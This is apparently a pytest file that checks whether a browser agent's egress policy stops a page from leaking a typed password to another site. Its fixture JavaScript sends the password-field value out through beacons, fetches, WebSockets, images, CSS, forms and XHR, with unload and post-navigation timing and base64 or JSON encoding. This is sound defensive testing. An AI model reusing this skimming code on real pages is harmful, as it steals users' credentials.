"""The door is the browser's egress: every channel, at any time, from any frame, is judged by one rule.

A generator composes what leaves (a beacon, a keepalive fetch, a WebSocket, an image, a CSS ``url()``, a form,
a fetch, an XHR) with when it leaves (at once, from a timer, while the page unloads, on the page a navigation
leads to) and from where (the tab, a same-site iframe, a cross-site iframe, a popup, a worker). The page
sends the text of its password field to another site, whose server logs every request and WebSocket message.
Under ``deny-risky``, and ``ask-risky`` with a person who denies, nothing reaches the other site; and a secret
typed on its own site never reaches the other one, under any policy, even one approving everything.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, quote, unquote_plus, urlparse

import pytest
import websockets
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from notebook_agent.agent import ApprovalAnswer, ApprovalRequest, PageAgent
from notebook_agent.browser import BrowserSession
from notebook_agent.llm.scripted import ScriptedModel
from tests.agent.test_page_agent import index_of, step

CHANNELS = ("beacon", "keepalive", "websocket", "image", "css", "form", "fetch", "xhr", "path")
TIMINGS = ("immediate", "timer", "unload", "after navigation")
FRAMES = ("top", "same-site iframe", "cross-site iframe", "popup", "worker")
ENCODINGS = ("raw", "url", "base64", "json")
#: A worker has no DOM, no beacon and no pagehide of its own; what it cannot do is not a combination.
NOT_IN_A_WORKER = {"beacon", "image", "css", "form", "path"}
#: A GET whose path alone carries the data (no query, no body) is a plain read: the policy does not judge it
#: (the guide says so), but a secret in it is refused like anywhere else.
PLAIN_READS = {"path"}
SECRET = 'Tr0ub"4d\\or-zq7'


@dataclass
class Sites:
    here: str = ""  # http://127.0.0.1:P: the run's site, where the pages are
    frames: str = ""  # http://127.0.0.2:F: another site, for the cross-site iframe (not the one logged)
    there: str = ""  # http://localhost:Q: the other site; everything it receives is logged
    ws: str = ""  # ws://localhost:W: the other site's WebSocket server, logged too
    log: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)
    """Pages of the run's site by name, served at ``/raw/NAME`` (for the tests of one listed case)."""


SEND_JS = r"""
function enc(s, e) {
  if (e === 'url') return encodeURIComponent(s);
  if (e === 'base64') return btoa('x' + s);
  if (e === 'json') return JSON.stringify({v: s});
  return s;
}
function fire(m) {
  const p = enc(m.secret, m.e), T = THERE, q = '?d=' + encodeURIComponent(p);
  if (m.c === 'beacon') navigator.sendBeacon(T + '/beacon', p);
  if (m.c === 'keepalive') fetch(T + '/keep', {method: 'POST', body: p, keepalive: true, mode: 'no-cors'});
  if (m.c === 'websocket') { const w = new WebSocket(WS + '/ws'); w.onopen = () => w.send(p); }
  if (m.c === 'image') { new Image().src = T + '/img' + q; }
  if (m.c === 'path') { new Image().src = T + '/px/' + encodeURIComponent(p) + '.gif'; }
  if (m.c === 'css') { const d = document.createElement('div'); d.textContent = 'x';
    d.style.backgroundImage = 'url(' + T + '/css' + q + ')'; document.body.appendChild(d); }
  if (m.c === 'form') { const f = document.createElement('form'); f.method = 'post'; f.action = T + '/form';
    const i = document.createElement('input'); i.name = 'd'; i.value = p; f.appendChild(i);
    document.body.appendChild(f); f.submit(); }
  if (m.c === 'fetch') fetch(T + '/fetch', {method: 'POST', body: p, mode: 'no-cors'});
  if (m.c === 'xhr') { const x = new XMLHttpRequest(); x.open('POST', T + '/xhr'); x.send(p); }
}
function send(m) {
  if (m.t === 'immediate') fire(m);
  if (m.t === 'timer') setTimeout(() => fire(m), 300);
  if (m.t === 'unload') {
    let once = false; const go = () => { if (!once) { once = true; fire(m); } };
    addEventListener('pagehide', go);
    document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') go(); });
    if (typeof POPUP !== 'undefined') setTimeout(() => { location.href = '/blank'; }, 200);
  }
  if (m.t === 'after navigation') {
    location.href = '/send#' + encodeURIComponent(JSON.stringify(Object.assign({}, m, {t: 'immediate'})));
  }
}
"""


def sender_page(sites: Sites, popup: bool = False) -> str:
    """A page that sends what it is told (by a message, or in its URL's fragment after a navigation)."""
    consts = f"const THERE={json.dumps(sites.there)}, WS={json.dumps(sites.ws)};" + ("const POPUP=1;" if popup else "")
    return (
        "<!doctype html><title>sender</title><p>sender</p><script>"
        + consts
        + SEND_JS
        + "addEventListener('message', e => { if (e.data && e.data.c) send(e.data); });"
        + "if (location.hash.length > 1) send(JSON.parse(decodeURIComponent(location.hash.slice(1))));"
        + "if (window.opener) window.opener.postMessage('ready', '*');"
        + "</script>"
    )


def worker_js(sites: Sites) -> str:
    consts = f"const THERE={json.dumps(sites.there)}, WS={json.dumps(sites.ws)};"
    return consts + SEND_JS + "onmessage = e => send(e.data);"


def top_page(sites: Sites, channel: str, timing: str, frame: str, encoding: str) -> str:
    """The run's page: a password field and a button whose click hands the field's text to the sender."""
    spec = {"c": channel, "t": timing, "e": encoding}
    where = {
        "same-site iframe": "<iframe id=f src='/send'></iframe>",
        "cross-site iframe": f"<iframe id=f src='{sites.frames}/send'></iframe>",
    }.get(frame, "")
    return (
        "<!doctype html><title>shop</title><h1>Shop</h1>"
        f"<input type=password id=pw name=pw><button onclick='go()'>Continue</button>{where}<script>"
        f"const THERE={json.dumps(sites.there)}, WS={json.dumps(sites.ws)}, F={json.dumps(frame)};"
        f"const SPEC={json.dumps(spec)};"
        + SEND_JS
        + "const worker = F === 'worker' ? new Worker('/worker.js') : null;"
        + "function go() { const m = Object.assign({secret: document.getElementById('pw').value || 'nothing'}, SPEC);"
        + " if (F === 'top') send(m);"
        + " if (F.endsWith('iframe')) document.getElementById('f').contentWindow.postMessage(m, '*');"
        + " if (F === 'popup') { const w = window.open('/popup');"
        + "   addEventListener('message', e => { if (e.data === 'ready') w.postMessage(m, '*'); }); }"
        + " if (F === 'worker') {"
        + "   if (m.t === 'unload') addEventListener('pagehide', () => worker.postMessage("
        + "       Object.assign({}, m, {t: 'immediate'})));"
        + "   else worker.postMessage(Object.assign({}, m, {t: m.t === 'after navigation' ? 'timer' : m.t})); }"
        + "}</script>"
    )


def _server(sites: Sites, role: str) -> ThreadingHTTPServer:
    pages: dict[str, Any] = {}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _answer(self) -> None:
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n) if n else b""
            path = urlparse(self.path)
            if role == "there":
                sites.log.append(f"{self.command} {self.path} {body.decode('utf-8', 'replace')}")
            kind = "text/html; charset=utf-8"
            if path.path == "/worker.js":
                data, kind = worker_js(sites), "text/javascript"
            elif path.path == "/top":
                q = {k: v[0] for k, v in parse_qs(path.query).items()}
                data = top_page(sites, q["c"], q["t"], q["f"], q["e"])
            elif path.path.startswith("/raw/"):
                data = sites.pages[path.path[5:]]
            elif path.path == "/iframe-form":  # the other site's own form, shown in an iframe of the run's page
                data = "<!doctype html><form method=post action=/submit><input name=q aria-label=Search></form>"
            elif path.path in ("/send", "/popup"):
                data = sender_page(sites, popup=path.path == "/popup")
            else:
                data = "<!doctype html><title>page</title><p>a page</p>"
            raw = data.encode()
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(raw)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(raw)

        do_GET = do_POST = _answer

    del pages
    host = {"here": "127.0.0.1", "frames": "127.0.0.2", "there": "127.0.0.1"}[role]
    server = ThreadingHTTPServer((host, 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    yield from serve_sites()


def serve_sites() -> Iterator[Sites]:
    """The run's site, a third site for the cross-site iframe, and the logged other site (HTTP and WebSocket)."""
    s = Sites()
    servers = {role: _server(s, role) for role in ("here", "frames", "there")}
    s.here = f"http://127.0.0.1:{servers['here'].server_address[1]}"
    s.frames = f"http://127.0.0.2:{servers['frames'].server_address[1]}"
    s.there = f"http://localhost:{servers['there'].server_address[1]}"
    ready = threading.Event()
    loop = asyncio.new_event_loop()

    async def serve_ws() -> None:
        async def handle(ws: Any) -> None:
            s.log.append(f"WS {ws.request.path}")
            async for message in ws:
                s.log.append(f"WSMSG {message}")

        server = await websockets.serve(handle, "127.0.0.1", 0)
        s.ws = f"ws://localhost:{server.sockets[0].getsockname()[1]}"
        ready.set()
        await stop.wait()
        server.close()

    stop = asyncio.Event()
    thread = threading.Thread(target=lambda: loop.run_until_complete(serve_ws()), daemon=True)
    thread.start()
    ready.wait(10)
    yield s
    for server in servers.values():
        server.shutdown()
        server.server_close()
    loop.call_soon_threadsafe(stop.set)
    thread.join(10)


def carries_secret(entry: str) -> bool:
    """Whether a logged request holds the secret in any encoding the pages use (decoded independently of the
    package: URL-decoding, base64 of every token, JSON)."""
    texts = {entry, unquote_plus(entry), unquote_plus(unquote_plus(entry))}
    texts.update(unquote_plus(part) for part in entry.replace(".gif", " ").split("/"))  # data in a path
    for text in list(texts):
        for token in text.replace("=", " = ").replace("&", " ").replace("?", " ").split():
            token = token.strip("=")
            try:
                texts.add(base64.b64decode(token + "=" * (-len(token) % 4)).decode("latin-1"))
            except Exception:
                pass
    return any(SECRET in t or json.dumps(SECRET)[1:-1] in t for t in texts)


async def run(browser: BrowserSession, sites: Sites, combo: tuple[str, str, str, str], **kw: Any) -> Any:
    channel, timing, frame, encoding = combo
    url = f"{sites.here}/top?c={channel}&t={quote(timing)}&f={quote(frame)}&e={encoding}"
    sites.log.clear()
    script = [
        step("input_text", lambda c: {"index": index_of(c, r"type=password"), "text": "<secret>pw</secret>"}),
        step("click_element_by_index", lambda c: {"index": index_of(c, r"Continue")}),
        step("wait", {"seconds": 1}),
        step("go_to_url", {"url": f"{sites.here}/blank"}),
        step("wait", {"seconds": 1}),
        step("done", {"text": "ok", "success": True}),
    ]
    agent = PageAgent(
        model=ScriptedModel(script),
        browser=browser,
        start_url=url,
        max_steps=8,
        secrets={sites.here: {"pw": SECRET}},
        **kw,
    )
    result = await agent.run("Sign in")
    await browser.effects_settled()
    await asyncio.sleep(0.3)
    return result


def combos(channels: tuple[str, ...] = CHANNELS) -> st.SearchStrategy[tuple[str, str, str, str]]:
    return st.tuples(
        st.sampled_from(channels), st.sampled_from(TIMINGS), st.sampled_from(FRAMES), st.sampled_from(ENCODINGS)
    ).filter(lambda c: not (c[2] == "worker" and c[0] in NOT_IN_A_WORKER))


async def deny(request: ApprovalRequest) -> ApprovalAnswer:
    return ApprovalAnswer(False, "not there")


async def approve(request: ApprovalRequest) -> ApprovalAnswer:
    return ApprovalAnswer(True)


POLICIES: dict[str, dict[str, Any]] = {
    "deny-risky": {"approval": "deny-risky"},
    "ask-risky, denied": {"approval": "ask-risky", "approver": deny},
}
ANY_POLICY: dict[str, dict[str, Any]] = {
    "auto": {"approval": "auto"},
    "ask-risky, approved": {"approval": "ask-risky", "approver": approve},
    "deny-risky": {"approval": "deny-risky"},
}

SAMPLE = settings(
    max_examples=6,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.mark.parametrize("policy", POLICIES)
async def test_nothing_reaches_the_other_site_unasked(browser: BrowserSession, sites: Sites, policy: str) -> None:
    tried: list[tuple[Any, list[str]]] = []

    @SAMPLE
    @given(combo=combos(tuple(c for c in CHANNELS if c not in PLAIN_READS)))
    def check(combo: tuple[str, str, str, str]) -> None:
        tried.append((combo, []))

    check()
    for combo, _ in tried:
        result = await run(browser, sites, combo, **POLICIES[policy])
        assert sites.log == [], (combo, sites.log, [s.result for s in result.steps])


@pytest.mark.parametrize("policy", ANY_POLICY)
async def test_a_secret_never_reaches_another_site(browser: BrowserSession, sites: Sites, policy: str) -> None:
    tried: list[tuple[str, str, str, str]] = []

    @SAMPLE
    @given(combo=combos())
    def check(combo: tuple[str, str, str, str]) -> None:
        tried.append(combo)

    check()
    for combo in tried:
        result = await run(browser, sites, combo, **ANY_POLICY[policy])
        leaked = [e for e in sites.log if carries_secret(e)]
        assert leaked == [], (combo, leaked, [s.result for s in result.steps])


ALL = [
    c
    for c in ((ch, t, f, e) for ch in CHANNELS for t in TIMINGS for f in FRAMES for e in ("raw",))
    if not (c[2] == "worker" and c[0] in NOT_IN_A_WORKER) and c[0] not in PLAIN_READS
]


@pytest.mark.slow
@pytest.mark.skipif(not os.environ.get("NOTEBOOK_AGENT_SLOW"), reason="the whole product: NOTEBOOK_AGENT_SLOW=1")
@pytest.mark.parametrize("combo", ALL, ids=lambda c: "/".join(c))
async def test_every_combination_under_deny_risky(browser: BrowserSession, sites: Sites, combo: Any) -> None:
    result = await run(browser, sites, combo, approval="deny-risky")
    assert sites.log == [], (combo, sites.log, [s.result for s in result.steps])
